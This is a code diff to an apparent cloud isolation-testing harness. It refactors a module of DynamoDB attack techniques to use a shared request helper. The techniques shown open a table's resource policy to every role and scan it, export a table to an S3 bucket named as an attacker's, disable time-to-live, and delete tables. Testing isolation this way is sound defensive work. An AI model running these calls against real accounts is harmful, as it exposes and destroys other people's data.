@@ -9,13 +9,14 @@ from __future__ import annotations
 
 import json
 from functools import partial
-from typing import TYPE_CHECKING, Any
+from typing import TYPE_CHECKING
 
+from harness.attacks.reach.item_calls import item_call
 from harness.attacks.technique import ControlKind, Feature, Severity, Technique, Victim
 from harness.blueprints.contract import Effect
-from harness.targets.api import ApiRequest
 
 if TYPE_CHECKING:
+    from harness.targets.api import ApiRequest
     from collections.abc import Sequence
 
     from harness.attacks.aim import Aim
@@ -24,10 +25,6 @@ if TYPE_CHECKING:
 _ACTIONS = "https://docs.aws.amazon.com/service-authorization/latest/reference/list_amazondynamodb.html"
 _EXPORT = "https://docs.aws.amazon.com/amazondynamodb/latest/developerguide/S3DataExport.HowItWorks.html"
 _POLICIES = "https://docs.aws.amazon.com/amazondynamodb/latest/developerguide/access-control-resource-based.html"
-
-
-def _call(operation: str, **params: Any) -> tuple[ApiRequest, ...]:
-    return (ApiRequest("dynamodb", operation, params),)
 
 
 def _arn(aim: Aim) -> str:
@@ -45,8 +42,8 @@ def _open_to_every_role(aim: Aim) -> tuple[ApiRequest, ...]:
     document = json.dumps({"Version": "2012-10-17", "Statement": [statement]})
     return (
         # A policy that the design has is never replaced.
-        *_call("PutResourcePolicy", ResourceArn=_arn(aim), Policy=document, ExpectedRevisionId="NO_POLICY"),
-        *_call("Scan", TableName=aim.table),
+        *item_call("PutResourcePolicy", ResourceArn=_arn(aim), Policy=document, ExpectedRevisionId="NO_POLICY"),
+        *item_call("Scan", TableName=aim.table),
     )
 
 
@@ -77,7 +74,7 @@ TECHNIQUES = (
         operation="DescribeTable",
         actions=("dynamodb:DescribeTable",),
         shows=lambda aim, answers: bool(answers[0].data["Table"]["TableName"] == aim.table),
-        steps=lambda aim: _call("DescribeTable", TableName=aim.table),
+        steps=lambda aim: item_call("DescribeTable", TableName=aim.table),
     ),
     # No table here keeps what an export needs, so none begins.
     _ADMINISTER(
@@ -89,7 +86,9 @@ TECHNIQUES = (
         documentation=_EXPORT,
         destructive=True,
         passes=("^PointInTimeRecoveryUnavailableException:",),
-        steps=lambda aim: _call("ExportTableToPointInTime", TableArn=_arn(aim), S3Bucket="isolation-harness-attacker"),
+        steps=lambda aim: item_call(
+            "ExportTableToPointInTime", TableArn=_arn(aim), S3Bucket="isolation-harness-attacker"
+        ),
     ),
     _ADMINISTER(
         id="dynamodb.write.put-resource-policy",
@@ -101,7 +100,7 @@ TECHNIQUES = (
         documentation=_POLICIES,
         destructive=True,
         passes=("^PolicyNotFoundException:",),
-        clean_up=lambda aim: _call("DeleteResourcePolicy", ResourceArn=_arn(aim)),
+        clean_up=lambda aim: item_call("DeleteResourcePolicy", ResourceArn=_arn(aim)),
         steps=_open_to_every_role,
     ),
     _ADMINISTER(
@@ -111,7 +110,7 @@ TECHNIQUES = (
         operation="UpdateTable",
         actions=("dynamodb:UpdateTable",),
         destructive=True,
-        steps=lambda aim: _call("UpdateTable", TableName=aim.table, DeletionProtectionEnabled=True),
+        steps=lambda aim: item_call("UpdateTable", TableName=aim.table, DeletionProtectionEnabled=True),
     ),
     _ADMINISTER(
         id="dynamodb.write.update-time-to-live",
@@ -121,7 +120,7 @@ TECHNIQUES = (
         actions=("dynamodb:UpdateTimeToLive",),
         destructive=True,
         passes=("^ValidationException: TimeToLive is already disabled",),
-        steps=lambda aim: _call(
+        steps=lambda aim: item_call(
             "UpdateTimeToLive",
             TableName=aim.table,
             TimeToLiveSpecification={"Enabled": False, "AttributeName": "expires"},
@@ -135,6 +134,6 @@ TECHNIQUES = (
         actions=("dynamodb:DeleteTable",),
         destructive=True,
         passes=("^ValidationException: Resource cannot be deleted as it is currently protected against deletion",),
-        steps=lambda aim: _call("DeleteTable", TableName=aim.table),
+        steps=lambda aim: item_call("DeleteTable", TableName=aim.table),
     ),
 )
